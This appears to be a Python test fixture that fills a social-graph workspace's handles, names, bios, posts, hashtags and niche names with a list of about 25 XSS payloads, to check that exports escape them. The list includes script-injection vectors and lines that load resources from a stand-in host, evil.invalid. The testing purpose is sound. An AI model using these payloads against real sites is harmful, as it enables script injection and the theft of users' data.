"""A small workspace whose every user-controlled string is an XSS payload, for the export tests.

Each payload calls `__xss(n)` (exposed to the page by the browser tests) or loads a remote URL;
payloads sit in handles, names, bios, post text, hashtags and niche names.
"""
from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path

import polars as pl

from influgraph.communities import detect_communities
from influgraph.niches import NicheQuery
from influgraph.rank import rank_niche
from influgraph.results import save_communities, save_ranking
from influgraph.schema import Batch, conform
from influgraph.workspace import Workspace

VECTORS = (
    "<script>__xss({n})</script>",
    "<img src=x onerror=__xss({n})>",
    "\"><svg onload=__xss({n})>",
    "'><svg/onload=__xss({n})>",
    "</script><script>__xss({n})</script>",
    "<iframe srcdoc=\"<script>parent.__xss({n})</script>\"></iframe>",
    "javascript:__xss({n})",
    "<a href=\"javascript:__xss({n})\">href</a>",
    "<details open ontoggle=__xss({n})>",
    "<body onload=__xss({n})>",
    "';__xss({n});//",
    "\";__xss({n});//",
    "${{__xss({n})}}",
    "{{{{constructor.constructor('__xss({n})')()}}}}",
    "<math><mi xlink:href=\"javascript:__xss({n})\">m</mi></math>",
    "<style>@import 'http://evil.invalid/{n}.css';</style>",
    "<link rel=stylesheet href=http://evil.invalid/{n}.css>",
    "<base href=\"http://evil.invalid/{n}/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__xss({n})\">",
    "<input autofocus onfocus=__xss({n})>",
    "<video><source onerror=\"__xss({n})\"></video>",
    "\u2028<script>__xss({n})</script>\u2029",
    "<!--<img src=\"--><img src=x onerror=__xss({n})//\">",
    "<object data=\"javascript:__xss({n})\"></object>",
    "=HYPERLINK(\"http://evil.invalid/{n}\")",
)
FIELDS = ("handle", "name", "bio", "text", "hashtag", "niche")


def payloads() -> list[tuple[str, str]]:
    """(field, payload) pairs: every vector in every field, each numbered so a hit names its payload."""
    out = []
    for f, field in enumerate(FIELDS):
        for v, vector in enumerate(VECTORS):
            out.append((field, vector.format(n=f * 100 + v)))
    return out


def build(path: Path) -> tuple[Workspace, list[tuple[str, str]]]:
    """The hostile workspace at `path`: accounts, posts, edges, communities, and two rankings (one tampered)."""
    pairs = payloads()
    at = datetime(2026, 1, 1, tzinfo=timezone.utc)
    n = len(VECTORS)
    accounts, posts, edges = [], [], []
    for i in range(n):
        accounts.append({"id": str(1_500_000_000_000_000_000 + i), "platform": "x",
                         "handle": pairs[i][1], "name": pairs[n + i][1], "bio": pairs[2 * n + i][1] + " evilniche",
                         "followers": 1000 + i, "created_at": at})
    for i in range(n):
        author = str(1_500_000_000_000_000_000 + i)
        tag = pairs[4 * n + i][1]
        posts.append({"id": str(1_600_000_000_000_000_000 + i), "platform": "x", "author_id": author, "created_at": at,
                      "text": f"{pairs[3 * n + i][1]} #evilniche", "hashtags": ["evilniche", tag], "lang": "en"})
        for j in (1, 2, 5):
            other = str(1_500_000_000_000_000_000 + (i + j) % n)
            edges.append({"src": other, "dst": author, "kind": "repost", "platform": "x",
                          "post_id": str(1_600_000_000_000_000_000 + i), "at": at, "weight": 1.0})
            edges.append({"src": other, "dst": author, "kind": "follow", "platform": "x", "weight": 1.0})
    ws = Workspace(path)
    ws.commit(Batch(accounts=conform(pl.DataFrame(accounts), "accounts"), posts=conform(pl.DataFrame(posts), "posts"),
                    edges=conform(pl.DataFrame(edges), "edges")))
    result = detect_communities(ws, seed=1)
    save_communities(ws, result)
    ranked = rank_niche(ws, NicheQuery(name="evilniche", hashtags=("evilniche",), keywords=("evilniche",)))
    save_ranking(ws, "evilniche", ranked)
    # niche names are validated when a query loads; a tampered results file must still be harmless
    for k, (_, payload) in enumerate(p for p in pairs if p[0] == "niche"):
        ws.write_result(f"rank_tampered_{k}", ranked.table.with_columns(pl.lit(payload).alias("niche")))
    return ws, pairs
